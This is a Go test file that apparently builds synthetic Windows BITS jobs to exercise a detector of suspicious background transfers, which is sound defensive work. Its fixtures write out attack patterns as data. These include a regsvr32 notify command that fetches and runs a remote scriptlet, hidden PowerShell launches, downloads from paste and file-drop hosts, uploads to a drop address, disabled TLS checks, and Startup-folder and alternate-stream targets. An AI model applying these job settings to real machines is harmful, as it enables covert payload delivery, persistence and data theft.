// SPDX-FileCopyrightText: The openbits authors
// SPDX-License-Identifier: Apache-2.0

package qmgrtest

import "time"

// Hosts and addresses of the cases.
const (
	plainHost = "https://updates.example.com/"
	address   = "http://203.0.113.7/"
	appData   = `C:\Users\alice\AppData\Local\Contoso\cache\`
)

// of is a job of a program that nothing else is wrong with.
func of(at time.Time, remote, local string) Job {
	j := NewJob("Contoso Update", victim.SID, at, NewFile(remote, local, 48231, at.Add(-48*time.Hour)))
	j.Creator = `C:\Program Files\Contoso\Updater\ContosoUpdate.exe`
	return j.In(Transferred, at.Add(time.Minute))
}

func plain(at time.Time) Job { return of(at, plainHost+"packages/package.dat", appData+"package.dat") }

// from is a job that fetches a remote name to a place that is not odd.
func from(remote string) func(time.Time) Job {
	return func(at time.Time) Job { return of(at, remote, appData+"package.dat") }
}

// to is a job that fetches to a local name.
func to(local string) func(time.Time) Job {
	return func(at time.Time) Job { return of(at, plainHost+"packages/package.dat", local) }
}

// by is a job that a program made.
func by(program string) func(time.Time) Job {
	return func(at time.Time) Job {
		j := of(at, plainHost+"files/package.dat", appData+"package.dat")
		j.Name, j.Creator = "job", program
		return j
	}
}

// with is a job after a change.
func with(job func(time.Time) Job, change func(*Job)) func(time.Time) Job {
	return func(at time.Time) Job {
		j := job(at)
		change(&j)
		return j
	}
}

// failing is a job in a state of error or transient error, for a reason that will stay.
func failing(state, code uint32) func(*Job) {
	return func(j *Job) {
		for i := range j.Files {
			j.Files[i] = j.Files[i].Unstarted()
		}
		j.Errors = []JobError{{Code: code, Context: 5, Kind: 3}}
		j.TransientErrors, j.RetryDelay = 3, 60
		*j = j.In(state, j.Modified)
	}
}

func command(program, arguments string) func(*Job) {
	return func(j *Job) { j.Program, j.Arguments = program, arguments }
}

const (
	bitsadmin  = `C:\Windows\System32\bitsadmin.exe`
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmd        = `C:\Windows\System32\cmd.exe`

	// transferText is the description that Start-BitsTransfer gives its jobs.
	transferText = "This is a file transfer that uses the Background Intelligent Transfer Service (BITS)."
)

// startBitsTransfer is what the command of PowerShell makes of a job.
func startBitsTransfer(j *Job) {
	j.Name, j.Description, j.Priority, j.Creator = "BITS Transfer", transferText, Foreground, powershell
}

var scenarios = []scenario{
	{name: "01-bitsadmin", shows: []int{1}, needs: inCreator, job: by(bitsadmin)},
	{name: "02-powershell", shows: []int{2}, needs: inCreator, job: with(plain, startBitsTransfer)},
	{name: "02-powershell-text", shows: []int{2}, needs: inRecord, job: with(plain, func(j *Job) {
		startBitsTransfer(j)
		j.Creator = ""
	})},
	{name: "03-notify-cmd", shows: []int{3}, needs: inCommand, job: with(plain, command(cmd, `cmd.exe /c C:\Users\alice\AppData\Local\Contoso\run.bat`))},
	{name: "03-notify-scriptlet", shows: []int{3}, needs: inCommand, once: true, job: with(plain,
		command(`C:\Windows\System32\regsvr32.exe`, "/s /n /u /i:https://updates.example.com/a.sct scrobj.dll"))},
	{name: "03-notify-own-file", shows: []int{3}, needs: inCommand, once: true, job: with(to(`C:\Users\alice\AppData\Local\Contoso\tool.exe`),
		command(`C:\Users\alice\AppData\Local\Contoso\tool.exe`, ""))},
	{name: "04-notify-loop-loopback", shows: []int{3, 4, 5}, needs: inCommand | inURL, job: with(with(from("http://127.0.0.1:8080/nothing"),
		command(powershell, `powershell.exe -w hidden -File C:\Users\alice\AppData\Local\Contoso\run.ps1`)), failing(TransientError, 0x80072efd))},
	{name: "04-notify-loop-error", shows: []int{3, 4}, needs: inCommand | inURL, once: true, job: with(with(from("https://gone.invalid/nothing"),
		command(cmd, `/c start C:\Users\alice\AppData\Local\Contoso\run.bat`)), failing(Error, 0x80072ee7))},
	{name: "05-public-address", shows: []int{5}, needs: inURL, job: from(address + "files/package.dat")},
	{name: "05-loopback", shows: []int{5}, needs: inURL, once: true, job: from("http://127.0.0.1:4444/package.dat")},
	{name: "05-share", shows: []int{5}, needs: inURL, once: true, job: from(`\\198.51.100.9\share\package.dat`)},
	{name: "05-file-url", shows: []int{5}, needs: inURL, once: true, job: from(`file://198.51.100.9/share/package.dat`)},
	{name: "05-address-v6", shows: []int{5}, needs: inURL, once: true, job: from("http://[2001:db8::7]/package.dat")},
	{name: "05-address-decimal", shows: []int{5}, needs: inURL, once: true, job: from("http://3405803783/package.dat")},
	{name: "06-dynamic-name", shows: []int{6}, needs: inURL, job: from("http://openbits-test.duckdns.org/package.dat")},
	{name: "06-odd-domain", shows: []int{6}, needs: inURL, once: true, job: from("http://openbits-test.top/package.dat")},
	{name: "07-paste", shows: []int{7}, needs: inURL, job: from("https://pastebin.com/raw/AAAAAAAA")},
	{name: "07-chat", shows: []int{7}, needs: inURL, once: true, job: from("https://cdn.discordapp.com/attachments/1/2/package.dat")},
	{name: "07-drop", shows: []int{7}, needs: inURL, once: true, job: from("https://transfer.sh/AAAAAA/package.dat")},
	{name: "07-image-from-notepad", shows: []int{7, 10}, needs: inURL | inCreator, once: true, job: with(from("https://i.imgur.com/AAAAAAA.jpg"), func(j *Job) {
		j.Creator = `C:\Windows\System32\notepad.exe`
	})},
	{name: "07-temporary-host", shows: []int{7}, needs: inURL, once: true, job: from("https://a.uguu.se/AAAAAAAA.7z")},
	{name: "08-public", shows: []int{8}, needs: inLocal, job: to(`C:\Users\Public\package.dat`)},
	{name: "08-perflogs", shows: []int{8}, needs: inLocal, once: true, job: to(`C:\PerfLogs\package.dat`)},
	{name: "08-startup", shows: []int{8}, needs: inLocal, once: true, job: to(
		`C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\package.lnk`)},
	{name: "08-system32", shows: []int{8}, needs: inLocal, once: true, job: to(`C:\Windows\System32\package.dll`)},
	{name: "08-recycle-bin", shows: []int{8}, needs: inLocal, once: true, job: to(`C:\$Recycle.Bin\package.dat`)},
	{name: "08-root", shows: []int{8}, needs: inLocal, once: true, job: to(`C:\package.dat`)},
	{name: "08-stream", shows: []int{8}, needs: inLocal, once: true, job: to(`C:\Users\alice\Documents\notes.txt:package.dat`)},
	{name: "09-extension-change", shows: []int{9}, needs: inURL | inLocal, job: func(at time.Time) Job {
		return of(at, plainHost+"images/holiday.jpg", appData+"tool.exe")
	}},
	{name: "09-script", shows: []int{9}, needs: inURL | inLocal, once: true, job: func(at time.Time) Job {
		return of(at, address+"a.ps1", appData+"a.ps1")
	}},
	{name: "09-executable-url", shows: []int{5, 9}, needs: inURL, job: from(address + "tools/tool.exe")},
	{name: "10-office", shows: []int{10}, needs: inCreator, job: by(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)},
	{name: "10-notepad", shows: []int{10}, needs: inCreator, once: true, job: by(`C:\Windows\System32\notepad.exe`)},
	{name: "10-script-host", shows: []int{10}, needs: inCreator, once: true, job: by(`C:\Windows\System32\mshta.exe`)},
	{name: "10-temporary", shows: []int{10}, needs: inCreator, once: true, job: by(`C:\Users\alice\AppData\Local\Temp\a1b2c3.exe`)},
	{name: "11-system-from-profile", shows: []int{11}, needs: inCreator | inRecord, job: with(by(`C:\Users\alice\AppData\Roaming\helper.exe`), asSystem)},
	{name: "11-other-owner", shows: []int{11}, needs: inRecord, job: with(with(plain, asSystem), func(j *Job) { j.Descriptor.Owner = victim.SID })},
	{name: "11-low-integrity", shows: []int{11}, needs: inRecord, once: true, job: with(with(plain, asSystem), func(j *Job) {
		j.Integrity, j.Elevated = Medium, 0
	})},
	{name: "12-ten-years", shows: []int{12}, needs: inRecord, job: with(from(address+"package.dat"), func(j *Job) {
		j.MaxDownload, j.RetryDelay = 3650*Day, 3650*Day
		j.Timers[Inactivity].Deadline = j.Timers[Inactivity].Start.AddDate(10, 0, 0)
	})},
	{name: "12-no-timeout", shows: []int{12}, needs: inRecord, once: true, job: with(from(address+"package.dat"), func(j *Job) {
		j.MaxDownload, j.NoProgress, j.RetryDelay = 0xffffffff, 0xffffffff, 1
		j.Timers[Inactivity].Deadline = j.Timers[Inactivity].Start.AddDate(3, 0, 0)
	})},
	{name: "13-stale", shows: []int{13}, needs: inRecord, kinds: []Kind{InQueue, InRow}, job: with(from(address+"package.dat"), func(j *Job) {
		old := j.Created.AddDate(0, -11, 0)
		j.Created = old
		j.Files[0] = j.Files[0].Unstarted()
		*j = j.In(Suspended, old)
	})},
	{name: "14-upload", shows: []int{14}, needs: inRecord, job: with(fetch(`http://203.0.113.7/drop/archive.zip`, `C:\Users\alice\Documents\archive.zip`), upload)},
	{name: "14-upload-two-markers", shows: []int{14}, needs: inRecord, once: true, job: with(with(
		fetch(`https://drop.example.com/up/archive.zip`, `C:\Users\alice\AppData\Local\Temp\archive.zip`), upload), func(j *Job) {
		j.TwoMarkers, j.Creator = true, powershell
	})},
	{name: "15-tls-off", shows: []int{15}, needs: inRecord, job: with(plain, func(j *Job) {
		j.Security = IgnoreCN | IgnoreDate | IgnoreCA | IgnoreUsage
	})},
	{name: "15-https-to-http", shows: []int{15}, needs: inRecord, once: true, job: with(plain, func(j *Job) { j.Security = AllowHTTP | IgnoreCA })},
	{name: "16-headers", shows: []int{16}, needs: inRecord, job: with(from(address+"package.dat"), func(j *Job) {
		j.Headers, j.Creator = Headers(184), bitsadmin
	})},
	{name: "16-credentials", shows: []int{16}, needs: inURL, kinds: []Kind{InTransfers}, job: from(address + "package.dat"), more: func(_ Generation, j Job) []Event {
		return []Event{j.Credentials(203, j.Files[0], victim, j.Created.Add(3*time.Second))}
	}},
	{name: "17-lock-screen", shows: []int{17}, needs: inURL, job: with(fetch("https://files.example.net/payload.7z",
		`C:\Users\alice\AppData\Local\Temp\Personalization\LockScreenImage\LockScreenImage_uXQ8IiHL80mkJsKc319JaA.7z`), func(j *Job) {
		j.Name, j.Creator = "Download LockScreen Image", `C:\Windows\System32\desktopimgdownldr.exe`
	})},
	{name: "18-renamed", shows: []int{18}, needs: inCreator | inRecord, job: with(by(`C:\Users\alice\AppData\Local\Temp\wuhelper.exe`), func(j *Job) {
		j.Files[0].Remote, j.Files[0].Local = "http://203.0.113.7/package.dat", `C:\Users\alice\AppData\Local\Temp\package.dat`
	})},
	{name: "21-volume", shows: []int{21}, needs: inURL, job: with(from(address+"dump.bin"), func(j *Job) {
		const n = 30 << 30
		f := &j.Files[0]
		f.Transferred, f.Total, f.RemoteSize, f.Received = n, n, n, []Range{{0, n}}
	})},
	{name: "22-local-copy", shows: []int{22}, needs: inURL, job: fetch(cmd, `C:\Users\alice\AppData\Local\Temp\c.exe`)},
	{name: "22-local-copy-url", shows: []int{22}, needs: inURL, once: true, job: fetch("file:///C:/Windows/System32/cmd.exe", `C:\Users\alice\AppData\Local\Temp\c.exe`)},
}

func fetch(remote, local string) func(time.Time) Job {
	return func(at time.Time) Job { return of(at, remote, local) }
}

func asSystem(j *Job) { j.Owner, j.Elevated, j.Integrity = System, 1, SystemLevel }

func upload(j *Job) {
	j.Type, j.Method = Upload, "POST"
	f := &j.Files[0]
	f.Upload, f.LocalTime, f.Temporary, f.Modified = true, f.Modified, "", time.Time{}
}
